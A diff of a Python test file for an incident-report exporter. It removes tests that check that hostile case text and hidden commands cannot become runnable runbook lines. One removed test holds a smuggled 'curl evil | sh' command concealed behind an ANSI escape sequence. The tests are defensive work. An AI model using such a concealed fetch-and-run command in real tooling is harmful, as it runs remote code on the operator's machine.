@@ -12,7 +12,7 @@ from investigator.domain.report import CaseDocument
 from investigator.exporters import FORMATS, SUFFIXES, exporter
 from investigator.exporters.text import cell, code, entities, fence
 from tests.support.bundles import exported
-from tests.support.documents import SECRET, actions, claims, document
+from tests.support.documents import SECRET, claims, document
 from tests.support.hostile import HOSTILE, HostileEvidence, poisoned
 
 UNSAFE = re.compile("[\x00-\x09\x0b-\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]")
@@ -81,38 +81,6 @@ def test_what_a_person_reads_is_the_same_in_csv():
 
     assert (rows[4]["action"], rows[4]["time"]) == ("iam:CreateAccessKey", "2026-01-27T03:07:05Z")
     assert rows[1]["count"] == "3"
-
-
-def test_the_runbook_saves_before_it_changes_and_never_runs_as_a_whole():
-    lines = exported("runbook", document()).decode().splitlines()
-    first = next(number for number, line in enumerate(lines) if not line.startswith("#"))
-
-    assert lines[first].endswith("exit 1")
-    assert lines.index(actions()[0].save) < lines.index(actions()[0].command)
-
-
-@pytest.mark.parametrize("text", HOSTILE)
-def test_no_text_of_a_case_becomes_a_line_of_the_runbook(text):
-    told = poisoned(document(), text)
-    commands = {
-        "save": None,
-        "command": "aws iam list-users",
-        "verify": "aws iam list-users",
-        "undo": "aws iam list-users",
-    }
-    harmless = tuple(action.model_copy(update=commands) for action in told.actions)
-    lines = exported("runbook", told.model_copy(update={"actions": harmless})).decode().split("\n")
-
-    assert {line for line in lines if line and not line.startswith("#")} <= {lines[3], "aws iam list-users"}
-    assert lines[3].startswith("echo 'Copy the commands one by one")
-
-
-def test_a_command_that_does_not_show_as_it_is_cannot_be_copied():
-    odd = actions()[0].model_copy(update={"command": "aws iam list-users\x1b[8m; curl evil | sh", "save": None})
-    out = exported("runbook", document(actions=(odd,))).decode()
-
-    assert "\naws iam list-users\\x1b" not in out
-    assert "# aws iam list-users\\x1b[8m; curl evil | sh" in out
 
 
 @pytest.mark.parametrize("form", ["json", "markdown", "csv", "runbook"])
